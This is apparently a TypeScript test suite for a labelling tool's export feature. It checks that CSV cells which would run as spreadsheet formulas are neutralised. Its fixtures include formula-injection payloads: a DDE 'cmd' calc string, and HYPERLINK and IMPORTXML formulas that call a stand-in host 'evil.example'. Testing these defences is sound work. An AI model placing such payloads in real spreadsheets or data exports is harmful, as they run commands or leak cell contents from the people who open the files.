// What an export carries and how it is written: CSV cells a spreadsheet would run as formulas
// are neutralised (JSONL and Label Studio stay exact); JSONL and CSV carry what was labelled
// (text, row values, a content reference, metadata) unless `content: 'none'`; the Label Studio
// file passes Label Studio's own import checks; the API and CLI take the same option.
import { describe, test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { parse } from 'csv-parse/sync';
import { runImport } from '../../src/ingest/import.ts';
import { cliActor } from '../../src/store/context.ts';
import { exportLabels } from '../../src/label/export.ts';
import { createTaxonomy } from '../../src/label/taxonomies.ts';
import { getProject, type Project } from '../../src/store/projects.ts';
import { dataset, REPO_ROOT } from '../helpers/datasets.ts';
import { tessera } from '../helpers/cli.ts';
import { seedAnnotations } from '../helpers/scale-fixture.ts';
import { freshStore, STORE_KINDS, type TestStore } from '../helpers/stores.ts';
import { startApi, usersWithRoles } from '../server/helpers.ts';

const OP = cliActor('cli:test');
/** The names every Label Studio result points at (from_name → the Choices, to_name → the object tag). */
const LABEL_STUDIO_FROM = 'label';
const LABEL_STUDIO_TO = 'item';
const OLD_CSV_HEADER = 'item,source_key,labels,source,confidence,taxonomy_version,decided_at,method,annotators,annotator_labels,reviewer,review_decision,review_reason';
const OLD_JSONL_KEYS = ['project', 'item', 'sourceKey', 'sha256', 'labels', 'source', 'confidence', 'taxonomyVersion', 'decidedAt', 'provenance'];
const root = mkdtempSync(join(tmpdir(), 'tessera-export-content-'));
process.on('exit', () => rmSync(root, { recursive: true, force: true }));

const csvRows = (body: string) => parse(body, { columns: true, relax_column_count: false }) as Array<Record<string, string>>;
const jsonl = (body: string) => body.trim().split('\n').map((l) => JSON.parse(l) as Record<string, any>);

/** Labels, annotator names, ids and texts a spreadsheet would run: every OWASP trigger character. */
const FORMULA_LABELS = ['=cmd|\' /C calc\'!A0', '+1+1', '-2+3', '@SUM(A1:A9)'];
const FORMULA_ANNOTATORS = ['=HYPERLINK("http://evil.example/?"&A1)', 'plain-annotator', '@evil'];
const FORMULA_TEXTS = ['=1+1', '\t=tab first', '\r=carriage return first', '-minus first', 'harmless = text'];

async function formulaProject(t: TestStore, dir: string): Promise<Project> {
  const lines = FORMULA_TEXTS.map((text, i) => JSON.stringify({ id: i === 0 ? '=IMPORTXML("http://evil.example","//a")' : `f-${i}`, text }));
  writeFileSync(join(dir, 'formula.jsonl'), lines.join('\n') + '\n');
  await runImport(t.store, { project: 'formula', path: join(dir, 'formula.jsonl'), options: { idColumn: 'id' }, actor: 'test' });
  const project = await getProject(t.store.db, 'formula');
  await createTaxonomy(t.store, project, OP, { kind: 'single', labels: FORMULA_LABELS.map((name) => ({ name })) });
  await seedAnnotations(t.store, project.id, { items: FORMULA_TEXTS.length, annotators: FORMULA_ANNOTATORS, labels: FORMULA_LABELS });
  return project;
}

/**
 * A project of every modality from the shared datasets: 12 SMS messages (text), 12 NSL-KDD rows
 * (tabular), 12 UCI digits (8×8 grey images) and 2 FSDD recordings (audio), all decided.
 */
async function mixedProject(t: TestStore, dir: string): Promise<Project> {
  const head = (lines: string, n: number) => lines.split('\n').slice(0, n).join('\n') + '\n';
  writeFileSync(join(dir, 'SMSSpamCollection'), head(readFileSync(dataset('text', 'sms-spam', 'SMSSpamCollection'), 'utf8'), 12));
  writeFileSync(join(dir, 'KDDTrain+_head.txt'), head(readFileSync(dataset('tabular', 'nsl-kdd', 'KDDTrain+_20Percent.txt'), 'utf8'), 12));
  writeFileSync(join(dir, 'digits.csv'), head(gunzipSync(readFileSync(dataset('images', 'digits', 'digits.csv.gz'))).toString('utf8'), 12));
  await runImport(t.store, { project: 'mixed', path: join(dir, 'SMSSpamCollection'), options: {}, actor: 'test' });
  await runImport(t.store, { project: 'mixed', path: join(dir, 'KDDTrain+_head.txt'), options: {}, actor: 'test' });
  await runImport(t.store, { project: 'mixed', path: join(dir, 'digits.csv'), options: {}, actor: 'test' });
  for (const wav of ['0_george_0.wav', '7_jackson_3.wav']) {
    await runImport(t.store, { project: 'mixed', path: dataset('audio', 'fsdd', 'recordings', wav), format: 'wav', options: { labelPattern: '{label}_{speaker}_{index}.wav', sampleRate: 8000 }, actor: 'test' });
  }
  const project = await getProject(t.store.db, 'mixed');
  await createTaxonomy(t.store, project, OP, { kind: 'single', labels: ['yes', 'no'].map((name) => ({ name })) });
  await seedAnnotations(t.store, project.id, { items: 1000, annotators: ['ann-1', 'ann-2', 'ann-3'], labels: ['yes', 'no'] });
  return project;
}

for (const kind of STORE_KINDS) {
  describe(`export content (${kind})`, () => {
    let t: TestStore;
    const dir = join(root, kind);
    before(async () => {
      t = await freshStore(kind);
      mkdirSync(dir, { recursive: true });
    });
    after(async () => t.cleanup());

    test('CSV export neutralises formula cells (=, +, -, @, tab, CR first) with a leading quote; JSONL and Label Studio keep them exact', async () => {
      const project = await formulaProject(t, dir);
      const csv = (await exportLabels(t.store, project, OP, 'csv')).body;
      const rows = csvRows(csv);
      assert.equal(rows.length, FORMULA_TEXTS.length);
      const risky = /^[=+\-@\t\r]/;
      for (const row of rows) {
        for (const [col, cell] of Object.entries(row)) assert.doesNotMatch(cell, risky, `column ${col} starts a formula: ${JSON.stringify(cell)}`);
      }
      // Each cell is the exact value with one leading quote when (and only when) it was risky.
      const js = jsonl((await exportLabels(t.store, project, OP, 'jsonl')).body);
      const safe = (s: string) => (risky.test(s) ? `'${s}` : s);
      rows.forEach((row, i) => {
        const j = js[i];
        assert.equal(row.source_key, safe(j.sourceKey));
        assert.equal(row.labels, safe(j.labels.join('|')));
        assert.equal(row.text, safe(j.text));
        assert.equal(row.annotators, safe(j.provenance.annotations.map((a: { annotator: string }) => a.annotator).join('|')));
        assert.equal(row.annotator_labels, safe(j.provenance.annotations.map((a: { labels: string[] }) => a.labels.join('+')).join('|')));
        assert.equal(row.confidence, String(j.confidence), 'numbers are written as they are');
      });
      assert.deepEqual(rows.map((r) => r.text), ["'=1+1", "'\t=tab first", "'\r=carriage return first", "'-minus first", 'harmless = text']);
      assert.equal(rows[0].source_key, 'id:=IMPORTXML("http://evil.example","//a")', 'a cell that does not start with a trigger stays as it is');
      // JSONL and Label Studio are data formats, not spreadsheets: exact.
      assert.deepEqual(js.map((j) => j.text), FORMULA_TEXTS);
      assert.ok(js.every((j) => FORMULA_LABELS.includes(j.labels[0])));
      const ls = JSON.parse((await exportLabels(t.store, project, OP, 'label-studio')).body);
      assert.deepEqual(ls.map((task: { data: { text: string } }) => task.data.text), FORMULA_TEXTS);
      assert.deepEqual(ls[0].meta.annotators, FORMULA_ANNOTATORS);
    });

    test('JSONL and CSV carry each item\'s content by modality (text, values, content URL + MIME) and metadata; content "none" is the labels-only file', async () => {
      const project = await mixedProject(t, dir);
      const items = await t.store.db.selectFrom('items').leftJoin('blobs', 'blobs.sha256', 'items.blob_sha256').select(['items.id', 'items.modality', 'items.text', 'items.data', 'items.meta', 'items.sha256', 'blobs.mime']).where('items.project_id', '=', project.id).orderBy('items.id').execute();
      const byModality = new Map<string, number>();
      for (const i of items) byModality.set(i.modality, (byModality.get(i.modality) ?? 0) + 1);
      assert.deepEqual([...byModality].sort(), [['audio', 2], ['image', 12], ['tabular', 12], ['text', 12]]);

      const js = jsonl((await exportLabels(t.store, project, OP, 'jsonl')).body);
      assert.equal(js.length, items.length);
      js.forEach((j, k) => {
        const it = items[k];
        assert.equal(j.item, it.id);
        assert.deepEqual(Object.keys(j).slice(0, OLD_JSONL_KEYS.length), OLD_JSONL_KEYS, 'the existing keys first, in their order');
        const content =
          it.modality === 'text' ? { text: it.text } : it.modality === 'tabular' ? { values: JSON.parse(it.data!) } : { contentUrl: `/api/projects/mixed/items/${it.id}/content`, mime: it.mime };
        assert.deepEqual(Object.fromEntries(Object.keys(j).slice(OLD_JSONL_KEYS.length).map((key) => [key, j[key]])), { modality: it.modality, ...content, meta: JSON.parse(it.meta) });
      });
      assert.deepEqual([...new Set(js.filter((j) => j.mime).map((j) => j.mime))].sort(), ['audio/wav', 'image/x-raw-gray8']);
      assert.equal(js.find((j) => j.modality === 'image')!.meta.width, 8, 'raw pixels come with their shape');

      const csv = (await exportLabels(t.store, project, OP, 'csv')).body;
      assert.equal(csv.slice(0, csv.indexOf('\n')), `${OLD_CSV_HEADER},sha256,modality,text,values,content_url,mime,meta`, 'new columns appended after the existing ones');
      const rows = csvRows(csv);
      rows.forEach((r, k) => {
        const j = js[k];
        assert.deepEqual(
          { sha256: r.sha256, modality: r.modality, text: r.text, values: r.values === '' ? null : JSON.parse(r.values), content_url: r.content_url, mime: r.mime, meta: JSON.parse(r.meta) },
          { sha256: j.sha256, modality: j.modality, text: j.text ?? '', values: j.values ?? null, content_url: j.contentUrl ?? '', mime: j.mime ?? '', meta: j.meta },
        );
      });

      // content: none — the labels-and-provenance file alone, as before.
      const bare = jsonl((await exportLabels(t.store, project, OP, 'jsonl', { content: 'none' })).body);
      assert.ok(bare.every((j) => JSON.stringify(Object.keys(j)) === JSON.stringify(OLD_JSONL_KEYS)));
      assert.deepEqual(bare, js.map((j) => Object.fromEntries(OLD_JSONL_KEYS.map((key) => [key, j[key]]))));
      const bareCsv = (await exportLabels(t.store, project, OP, 'csv', { content: 'none' })).body;
      assert.equal(bareCsv.slice(0, bareCsv.indexOf('\n')), OLD_CSV_HEADER);
      assert.deepEqual(csvRows(bareCsv), rows.map((r) => Object.fromEntries(OLD_CSV_HEADER.split(',').map((c) => [c, r[c]]))));

      await assert.rejects(exportLabels(t.store, project, OP, 'jsonl', { content: 'text' }), /content: expected include\|none, got "text"/);
      await assert.rejects(exportLabels(t.store, project, OP, 'label-studio', { content: 'none' }), /a Label Studio task needs its data/);
      const audit = await t.store.db.selectFrom('audit_events').select('payload').where('action', '=', 'export').where('project_id', '=', project.id).orderBy('seq').execute();
      assert.deepEqual(audit.map((a) => JSON.parse(a.payload).content), ['include', 'include', 'none', 'none'], 'the audit log says whether the content left');
    });

    test('Label Studio JSON passes Label Studio\'s task import checks and matches the labelling config in docs/export.md', async () => {
      const project = await getProject(t.store.db, 'mixed');
      const tasks = JSON.parse((await exportLabels(t.store, project, OP, 'label-studio')).body) as Array<Record<string, any>>;
      assert.equal(tasks.length, 38);
      for (const task of tasks) assert.deepEqual(labelStudioImportProblems(task), [], JSON.stringify(task).slice(0, 300));
      const ann = tasks[0].annotations as Array<Record<string, any>>;
      assert.deepEqual(ann.map((a) => a.meta.annotator ?? a.meta.decidedBy), ['ann-1', 'ann-2', 'ann-3', 'consensus:majority']);
      assert.deepEqual(tasks[0].meta.annotators, ['ann-1', 'ann-2', 'ann-3']);
      const dataKeys = (m: string) => [...new Set(tasks.filter((task) => (task.data.text !== undefined ? 'text' : task.data.values ? 'tabular' : task.data.audio ? 'audio' : 'image') === m).map((task) => Object.keys(task.data).join()))];
      assert.deepEqual(['text', 'tabular', 'image', 'audio'].map(dataKeys), [['text'], ['values'], ['image'], ['audio']]);

      // The config the guide gives for each modality names exactly what the tasks hold.
      const guide = readFileSync(join(REPO_ROOT, 'docs', 'export.md'), 'utf8');
      for (const [tag, key] of [['Text', 'text'], ['Table', 'values'], ['Image', 'image'], ['Audio', 'audio']]) {
        assert.match(guide, new RegExp(`<${tag} name="${LABEL_STUDIO_TO}" value="\\$${key}"/>`), `${tag} in docs/export.md`);
      }
      assert.match(guide, new RegExp(`<Choices name="${LABEL_STUDIO_FROM}" toName="${LABEL_STUDIO_TO}" choice="single">`));
      assert.ok(tasks.every((task) => task.annotations.every((a: { result: Array<{ from_name: string; to_name: string }> }) => a.result.every((r) => r.from_name === LABEL_STUDIO_FROM && r.to_name === LABEL_STUDIO_TO))));
    });
  });
}

/**
 * Label Studio's checks on an imported task, restated from its source (label_studio/tasks/
 * validation.py TaskValidator.validate, and tasks/serializers.py BaseTaskSerializerBulk
 * _insert_valid_completed_by / add_annotations): `data` a dict; `annotations` a list of dicts
 * each with a list `result`; `completed_by` absent, a member's integer id or {"email"} (this
 * export knows no Label Studio user, so only absent passes); an annotation `id` (kept as
 * import_id) an integer; `meta` a dict. Returns the problems found.
 */
function labelStudioImportProblems(task: Record<string, any>): string[] {
  const out: string[] = [];
  if (typeof task.data !== 'object' || task.data === null || Array.isArray(task.data)) out.push('data is not a dict');
  if (task.meta !== undefined && (typeof task.meta !== 'object' || task.meta === null)) out.push('meta is not a dict');
  if (!Array.isArray(task.annotations)) return [...out, 'annotations is not a list'];
  for (const a of task.annotations) {
    if (!Array.isArray(a.result)) out.push('annotation without a result list');
    if ('completed_by' in a) out.push(`completed_by=${JSON.stringify(a.completed_by)} is not an id of the importing Label Studio's users`);
    if ('id' in a && !(Number.isInteger(a.id) && a.id > 0)) out.push(`annotation id ${a.id} is not a positive integer`);
    if (typeof a.ground_truth !== 'boolean') out.push('ground_truth is not a boolean');
    for (const r of a.result ?? []) if (r.type !== 'choices' || !Array.isArray(r.value?.choices)) out.push('result is not a choices result');
  }
  return out;
}

describe('export over HTTP and from the CLI (sqlite)', () => {
  let t: TestStore;
  let project: Project;
  const dir = join(root, 'api');
  before(async () => {
    t = await freshStore('sqlite');
    mkdirSync(dir, { recursive: true });
    project = await mixedProject(t, dir);
  });
  after(async () => t.cleanup());

  test('GET …/export?content=include|none; the content URL serves the bytes the sha256 names; a bad value is a 400', async () => {
    const api = await startApi(t.store);
    try {
      const tok = await usersWithRoles(t.store, project, { mgr: 'manager' });
      const full = await api.call('GET', '/api/projects/mixed/export?format=jsonl', tok.mgr);
      assert.equal(full.status, 200, full.text);
      const js = jsonl(full.text);
      for (const j of js.filter((x) => x.contentUrl)) {
        const res = await fetch(api.base + j.contentUrl, { headers: { authorization: `Bearer ${tok.mgr}` } });
        assert.equal(res.status, 200);
        assert.equal(res.headers.get('content-type'), j.mime);
        assert.equal(createHash('sha256').update(Buffer.from(await res.arrayBuffer())).digest('hex'), j.sha256);
      }
      const none = await api.call('GET', '/api/projects/mixed/export?format=csv&content=none', tok.mgr);
      assert.equal(none.status, 200);
      assert.equal(none.text.slice(0, none.text.indexOf('\n')), OLD_CSV_HEADER);
      assert.equal((await api.call('GET', '/api/projects/mixed/export?format=csv&content=all', tok.mgr)).status, 400);
      const ls = await api.call('GET', '/api/projects/mixed/export?format=label-studio&content=none', tok.mgr);
      assert.equal(ls.status, 400);
      assert.match(ls.text, /a Label Studio task needs its data/);
    } finally {
      await api.close();
    }
  });

  test('tessera export --content none|include; a bad value exits 2 naming the flag', () => {
    const out = join(dir, 'out.csv');
    const r = tessera(['export', '--project', 'mixed', '--format', 'csv', '--content', 'none', '--out', out, '--json'], t.env);
    assert.equal(r.code, 0, r.stderr);
    assert.deepEqual(r.json, { format: 'csv', items: 38, out, content: 'none' });
    assert.equal(readFileSync(out, 'utf8').split('\n')[0], OLD_CSV_HEADER);
    const full = tessera(['export', '--project', 'mixed', '--format', 'jsonl'], t.env);
    assert.equal(full.code, 0, full.stderr);
    assert.equal(jsonl(full.stdout).filter((j) => j.modality === 'text' && j.text.length > 0).length, 12);
    const bad = tessera(['export', '--project', 'mixed', '--content', 'everything', '--json', '--out', out], t.env);
    assert.equal(bad.code, 2);
    assert.match(bad.json.error.message, /content: expected include\|none, got "everything"/);
  });
});
